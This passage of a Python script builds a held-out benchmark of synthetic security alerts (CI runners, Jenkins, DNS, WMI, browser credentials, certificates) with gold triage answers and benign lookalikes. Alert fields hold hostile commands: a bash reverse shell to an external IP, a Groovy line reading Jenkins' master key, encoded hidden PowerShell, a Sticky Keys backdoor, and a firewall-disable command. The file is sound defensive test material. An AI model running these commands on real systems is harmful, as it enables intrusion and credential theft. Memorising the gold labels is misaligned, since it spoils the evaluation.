    f = {"activity": "wipe", "initiated_by": f"helpdesk@{h.dom}", "devices": 1, "device": f"iPhone-{h.hexs(4)}", "reason": f"reported lost by {u['upn']} (ticket IT-{h.n(1000, 9999)})"}
    a = h.alert("intune", "Remote wipe issued", "medium", f, {"users": [u["upn"]]}, asset)
    return N([a], "benign", ID_DISRUPT + ["isolate_host", "delete_resource"], tags=["mdm"])


def ci_runner(h, tp, v):
    org = h.org
    runner = f"runner-{h.pick(['build', 'deploy'])}-{h.n(1, 20):02d}"
    asset = h.asset("production", "high", "build-infra")
    if tp:
        f = {"runner": runner, "kind": "self-hosted (persistent, not ephemeral)", "job": {"repo": f"{org}/web-portal", "trigger": "pull_request from fork", "step": "npm test"},
             "process_tree": "node -> sh -> bash -c 'nohup bash -i >& /dev/tcp/" + h.ext_ip() + "/443 0>&1 &'", "persisted": "~/.bashrc line appended for the runner user"}
        a = h.alert("github-actions", "Fork-triggered job on a persistent self-hosted runner left a reverse shell behind", "critical", f, {"hosts": [runner], "repositories": [f"{org}/web-portal"]}, asset)
        return T([a], ["T1059.004", "T1546.004"], sev_for("high", asset), TP_DEFAULT + ["disable_account", "reset_password"], cite=["runbook:rb-ci-pipeline-tampering"],
                 tags=["ci-cd", "linux"])
    f = {"runner": runner, "kind": "self-hosted (ephemeral)", "job": {"repo": f"{org}/infra-tests", "trigger": "push to main", "step": "integration tests"},
         "process_tree": "bash -> nc -l 127.0.0.1 8080", "context": "the test suite starts a local stub server"}
    a = h.alert("github-actions", "Listener opened by a CI job", "medium", f, {"hosts": [runner], "repositories": [f"{org}/infra-tests"]}, h.asset("dev", "low", "build-infra"))
    return N([a], "false_positive", HOST_DISRUPT + ["revoke_token", "quarantine_workload", "delete_resource"], tags=["ci-cd"])


def jenkins_console(h, tp, v):
    host = f"jenkins-{h.pick(['ctl', 'main'])}-{h.n(1, 3)}"
    asset = h.asset("production", "high", "build-infra")
    f = {"url": "/script", "method": "POST", "user": "anonymous" if v % 2 else "build-bot", "script": "println 'cat /var/jenkins_home/secrets/master.key'.execute().text",
         "src_ip": h.ext_ip(), "security_realm": "misconfigured: anonymous has Overall/Administer" if v % 2 else "API token of build-bot"}
    a = h.alert("jenkins-audit", "Groovy script console used to read the controller's master key", "critical", f, {"hosts": [host]}, asset)
    return T([a], ["T1059", "T1552.001"], sev_for("high", asset), TP_DEFAULT + ["quarantine_email", "reset_password"], cite=["runbook:rb-ci-pipeline-tampering"], tags=["ci-cd"])


def dns_dga(h, tp, v):
    host = f"{h.pick(['LT', 'WS'])}-{h.n(3000, 3999)}"
    asset = h.asset("production", "medium", "it-endpoint")
    if tp:
        f = {"policy": "DGA", "queries": h.n(400, 1500), "nxdomain_ratio": 0.97, "sample": [f"{h.hexs(12)}.example", f"{h.hexs(14)}.test", f"{h.hexs(11)}.example"],
             "resolved": [f"{h.hexs(12)}.example"], "then": {"https_to": h.ext_ip(), "interval_s": 300}, "process": "C:\\Users\\Public\\msupd.exe"}
        a = h.alert("cisco-umbrella", "Algorithmically generated lookups, then regular HTTPS to the one that resolved", "high", f, {"hosts": [host]}, asset)
        return T([a], ["T1568.002", "T1071.001"], "high", TP_DEFAULT + ["disable_account", "contain_cloud_resource"], tags=["dns", "c2"])
    f = {"policy": "DGA", "queries": h.n(3, 9), "nxdomain_ratio": 1.0, "sample": [h.hexs(9), h.hexs(12), h.hexs(10)], "process": "chrome.exe",
         "note": "single-label random names at browser start (intranet redirect detection)"}
    a = h.alert("cisco-umbrella", "Possible DGA activity", "medium", f, {"hosts": [host]}, asset)
    return N([a], "false_positive", HOST_DISRUPT + ["block_indicator", "delete_resource"], tags=["dns"])


def dns_doh(h, tp, v):
    host = f"{h.pick(['SRV-APP', 'SRV-WEB'])}{h.n(1, 20):02d}"
    asset = h.asset("production", "high", "web-platform")
    if tp:
        f = {"category": "DNS over HTTPS bypass", "dst": h.ext_ip(), "sni": "dns.resolver-anon.example", "bytes_out": h.n(10 ** 7, 10 ** 8), "sessions": h.n(2000, 9000),
             "process": "/tmp/.cache/kworker", "host_has_no_browser": True}
        a = h.alert("cloudflare-gateway", "Server tunnelling DNS over HTTPS to an unknown resolver", "high", f, {"hosts": [host]}, asset)
        return T([a], ["T1572", "T1071.004"], "high", TP_DEFAULT + ["disable_account", "revoke_oauth_grant"], tags=["dns", "c2"])
    f = {"category": "DNS over HTTPS", "dst": "10.70.0.53", "sni": f"doh.{h.dom}", "process": "firefox.exe", "note": "company DoH resolver configured by GPO"}
    a = h.alert("cloudflare-gateway", "DoH traffic observed", "low", f, {"hosts": [host]}, asset)
    return N([a], "false_positive", HOST_DISRUPT + ["block_indicator", "delete_resource"], tags=["dns"])


def wmi_subscription(h, tp, v):
    host = f"SRV-{h.pick(['HR', 'PAY', 'DOC'])}{h.n(1, 9):02d}"
    asset = h.asset("production", h.pick(["high", "critical"]), "corp-it")
    if tp:
        f = {"EventID": 5861, "Namespace": "root\\subscription", "Consumer": "CommandLineEventConsumer.Name=\"SysPerf\"",
             "CommandLineTemplate": "powershell -w hidden -e JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=", "Filter": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
             "CreatedBy": "CORP\\svc-print"}
        if v == 3:
            f["result"] = "blocked: the EDR's WMI protection rule denied the consumer registration"
            a = h.alert("trellix-edr", "Blocked: permanent WMI consumer with encoded PowerShell", "medium", f, {"hosts": [host], "users": ["CORP\\svc-print"]}, asset)
            return T([a], ["T1546.003"], sev_for("high", asset, attempt_only=True), TP_DEFAULT + ["isolate_host", "revoke_oauth_grant"], tags=["windows", "persistence"])
        a = h.alert("trellix-edr", "Permanent WMI consumer runs encoded PowerShell every minute", "high", f, {"hosts": [host], "users": ["CORP\\svc-print"]}, asset)
        return T([a], ["T1546.003", "T1059.001"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "contain_cloud_resource"], tags=["windows", "persistence"])
    f = {"EventID": 5861, "Namespace": "root\\subscription", "Consumer": "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"", "CreatedBy": "NT AUTHORITY\\SYSTEM",
         "context": "installed by the Configuration Manager client"}
    a = h.alert("trellix-edr", "WMI event subscription created", "medium", f, {"hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "delete_resource"], tags=["windows"])


def accessibility_backdoor(h, tp, v):
    host = f"{h.pick(['RDS', 'JUMP'])}-{h.n(1, 9):02d}"
    asset = h.asset("production", "high", "corp-it")
    f = {"registry": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe", "value": "Debugger", "data": "C:\\Windows\\System32\\cmd.exe",
         "by": "CORP\\temp-contractor", "then": "logon screen spawned cmd.exe as SYSTEM (RDP, before authentication)"}
    a = h.alert("sophos-intercept-x", "Sticky Keys debugger set to cmd.exe; SYSTEM shell at the logon screen", "critical", f, {"hosts": [host], "users": ["CORP\\temp-contractor"]}, asset)
    return T([a], ["T1546.008", "T1546.012"] if v % 2 else ["T1546.008"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "contain_cloud_resource"], tags=["windows", "persistence"])


def browser_credentials(h, tp, v):
    u = h.person()
    host = f"LT-{h.n(4000, 4999)}"
    asset = h.asset("production", "medium", "it-endpoint")
    if tp:
        f = {"target_files": ["\\Google\\Chrome\\User Data\\Default\\Login Data", "\\Google\\Chrome\\User Data\\Local State", "\\Microsoft\\Edge\\User Data\\Default\\Cookies"],
             "process": f"C:\\Users\\{u['short']}\\AppData\\Local\\Temp\\{h.hexs(6)}.exe", "parent": "explorer.exe <- Discord attachment", "network_after": {"dst": h.ext_ip(), "bytes_out": h.n(200000, 900000)}}
        a = h.alert("cortex-xdr", "Non-browser process read saved passwords and cookies, then uploaded", "high", f, {"users": [u["upn"]], "hosts": [host]}, asset)
        return T([a], ["T1555.003", "T1539", "T1041"], "high", TP_DEFAULT + ["contain_cloud_resource", "revoke_oauth_grant"], tags=["windows", "infostealer"])
    f = {"target_files": ["\\Google\\Chrome\\User Data\\Default\\Login Data"], "process": "C:\\Program Files\\1Password\\app\\8\\1Password.exe", "signed": True,
         "context": "user started 'Import from Chrome' in the company password manager"}
    a = h.alert("cortex-xdr", "Browser credential store accessed", "medium", f, {"users": [u["upn"]], "hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ID_DISRUPT + ["delete_resource"], tags=["windows"])


def firewall_disabled(h, tp, v):
    host = f"SRV-{h.pick(['FILE', 'APP'])}{h.n(10, 40)}"
    asset = h.asset("staging", "low", "corp-it") if v == 2 else h.asset("production", "high", "corp-it")
    if tp:
        f = {"CommandLine": "netsh advfirewall set allprofiles state off", "ParentCommandLine": "cmd.exe /c C:\\PerfLogs\\x.bat", "User": "CORP\\svc-backup",
             "followed_by": ["timestomp: C:\\PerfLogs\\x.bat created-time set to 2019-03-01", "net use \\\\10.70.9.9\\c$ /user:CORP\\svc-backup"]}
        a = h.alert("sentinelone", "Host firewall turned off by a batch file that then back-dated itself", "high", f, {"hosts": [host], "users": ["CORP\\svc-backup"]}, asset)
        return T([a], ["T1562.004", "T1070.006"], sev_for("high", asset), TP_DEFAULT + ["revoke_oauth_grant", "contain_cloud_resource"], tags=["windows", "defense-evasion"])
    f = {"CommandLine": "netsh advfirewall firewall add rule name=\"Veeam Agent\" dir=in action=allow program=\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"",
         "ParentCommandLine": "msiexec.exe /i VeeamAgentWindows.msi /qn", "User": "NT AUTHORITY\\SYSTEM"}
    a = h.alert("sentinelone", "Firewall configuration changed via netsh", "medium", f, {"hosts": [host]}, asset)
    return N([a], "benign", HOST_DISRUPT + ["disable_account", "delete_resource"], tags=["windows"])


def cert_abuse(h, tp, v):
    u = h.person()
    asset = h.asset("production", "critical", "identity-platform")
    f = {"EventID": 4887, "Requester": "CORP\\" + u["short"], "Template": "UserAuthentication-Legacy", "SubjectAltName": "upn=administrator@" + h.dom,
         "template_flags": ["ENROLLEE_SUPPLIES_SUBJECT", "Client Authentication"], "CA": "CORP-ISSUING-CA01", "then": "PKINIT logon as administrator from " + f"WS-{h.n(100, 999)}"}
    a = h.alert("defender-identity", "Certificate issued with another user's UPN in the SAN, then used to log on as that user", "critical", f, {"users": ["CORP\\" + u["short"], "administrator"]},
                asset)
    return T([a], ["T1649", "T1550.003"] if v % 2 else ["T1649"], sev_for("high", asset), TP_DEFAULT + ["contain_cloud_resource", "revoke_oauth_grant"], tags=["windows", "identity"])


def browser_extension(h, tp, v):
    u = h.person()
    asset = h.asset("production", "medium", "it-endpoint")
    if tp:
        f = {"extension_id": h.hexs(32).replace("0", "a").replace("1", "b")[:32], "name": h.pick(["PDF Converter Pro", "Tab Saver+"]), "permissions": ["<all_urls>", "cookies", "webRequest"],
             "install_source": "sideloaded via --load-extension in a modified shortcut", "store_listing": None, "user": u["upn"]}
        a = h.alert("chrome-enterprise", "Sideloaded extension with cookie and all-sites access", "medium", f, {"users": [u["upn"]]}, asset)
        return T([a], ["T1176.001"], "medium", TP_DEFAULT + ["contain_cloud_resource", "revoke_token"], tags=["browser", "persistence"])
    f = {"extension_id": "aeblfdkhhhdcdjpifhhbdiojplfjncoa", "name": "1Password", "permissions": ["<all_urls>", "webRequest"], "install_source": "force-installed by policy",
         "user": u["upn"]}
    a = h.alert("chrome-enterprise", "Extension with broad permissions installed", "low", f, {"users": [u["upn"]]}, asset)
    return N([a], "benign", HOST_DISRUPT + ID_DISRUPT + ["delete_resource"], tags=["browser"])


SCENARIOS = [
    # (builder, plan of true positive / benign variants)
    (macos_launch_agent, [1, 1, 0, 1]),
    (macos_gatekeeper, [1, 0, 1]),
    (macos_keychain, [1, 1, 1]),
    (linux_kmod, [1, 0, 1, 1]),
    (linux_preload, [1, 0, 1]),
    (salesforce_export, [1, 0, 1, 1]),
    (slack_export, [1, 0, 1]),
    (zoom_recordings, [1, 1, 0]),
    (gws_delegation, [1, 0, 1]),
    (mssql_cmdshell, [1, 0, 1, 1]),
    (db_bulk_read, [1, 0, 1]),
    (ot_usb, [1, 0, 1, 0, 1]),
    (ot_remote_tool, [1, 1, 0]),
    (email_vendor_impersonation, [1, 0, 1, 0, 1]),
    (email_internal_phish, [1, 0, 1]),
    (vpn_appliance, [1, 0, 1, 1]),
    (vpn_session, [1, 0, 1]),
    (mdm_device, [1, 0, 1]),
    (mdm_wipe, [1, 0, 1]),
    (ci_runner, [1, 0, 1]),
    (jenkins_console, [1, 1]),
    (dns_dga, [1, 0, 1, 0]),
    (dns_doh, [1, 0, 1, 1]),
    (wmi_subscription, [1, 0, 1, 1]),
    (accessibility_backdoor, [1, 1]),
    (browser_credentials, [1, 0, 1]),
    (firewall_disabled, [1, 0, 1]),
    (cert_abuse, [1, 1, 1]),
    (browser_extension, [1, 0, 1, 1]),
]


def build():
    plan = []
    for builder, kinds in SCENARIOS:
        for v, tp in enumerate(kinds):
            plan.append((builder, bool(tp), v))
    order = list(range(len(plan)))
    random.Random(f"{SEED}:heldout:order").shuffle(order)
    out, meta = [], []
    for i, k in enumerate(order):
        builder, tp, v = plan[k]
        h = H(k)
        s = builder(h, tp, v)
        gold = {"severity": s["sev"], "techniques": s["tech"], "disposition": s["disp"]}
        if s["cite"]:
            gold["must_cite"] = s["cite"]
        gold["forbidden_actions"] = sorted(set(s["forbid"]), key=checks.ACTIONS.index)
        tags = ["heldout"] + s["tags"] + ([] if tp else ["benign-lookalike"])
        out.append({"id": f"heldout-{i + 1:04d}", "alerts": s["alerts"], "gold": gold, "tags": list(dict.fromkeys(tags)), "source": SOURCE, "license": LICENSE})
        meta.append(builder.__name__)
    return out, meta


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--attack", default="/work/shared/attack/enterprise-attack.json")
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "heldout.jsonl"))
    args = ap.parse_args()
    active = checks.load_attack(args.attack)
    records, meta = build()
    problems = []
    checks.validate(records, "heldout", active, problems)
    # Written apart from the corpus: a true positive whose techniques are all a runbook's
    # must be one that runbook genuinely covers (must_cite names it), and forbidden actions must be ones a runbook-following or
    # bait-following engine could propose (never only the two destructive ones).
    runbook_techs = set()
    for rb in checks.RUNBOOKS:
        runbook_techs.update(runbook_techniques(rb))
    for rec in records:
        g = rec["gold"]
        if g["disposition"] == "true_positive" and set(g["techniques"]) <= runbook_techs and "must_cite" not in g:
            problems.append(f"{rec['id']}: every technique is a runbook's ({g['techniques']})")
        if not set(g["forbidden_actions"]) - {"delete_resource", "change_org_policy"}:
            problems.append(f"{rec['id']}: forbids only actions no engine proposes")
        for a in rec["alerts"]:
            if a["rule"]["name"] in runbook_titles():
                problems.append(f"{rec['id']}: rule name is a runbook title")
    if problems:
        for p in problems:
            print("PROBLEM", p, file=sys.stderr)
        sys.exit(1)
    checks.write_jsonl(args.out, records)
    n = len(records)
    benign = sum(r["gold"]["disposition"] != "true_positive" for r in records)
    techs = Counter(t for r in records for t in r["gold"]["techniques"])
    print(f"heldout.jsonl: {n} samples, {benign} benign or false positive ({benign / n:.0%}), {len(Counter(meta))} scenarios, "
          f"{sum(1 for r in records if 'must_cite' in r['gold'])} with must_cite, {len(techs)} distinct techniques "
          f"({len(set(techs) - runbook_techs)} not in any runbook)")
    print("  severities:", dict(Counter(r["gold"]["severity"] for r in records)))
    print("  sources:", len(Counter(a["source"] for r in records for a in r["alerts"])))


def runbook_dir():
    return os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), "corpus", "runbooks")


def runbook_techniques(rb):
    import re
    front = open(os.path.join(runbook_dir(), rb + ".md"), encoding="utf-8").read().split("---")[1]
    m = re.search(r"techniques: \[(.*)\]", front)
    return [t.strip() for t in m.group(1).split(",")] if m else []


def runbook_titles():
    import re
    titles = set()
    for rb in checks.RUNBOOKS:
        front = open(os.path.join(runbook_dir(), rb + ".md"), encoding="utf-8").read().split("---")[1]
        m = re.search(r"title: (.*)", front)
        if m:
            titles.add(m.group(1).strip())
    return titles


if __name__ == "__main__":
    main()
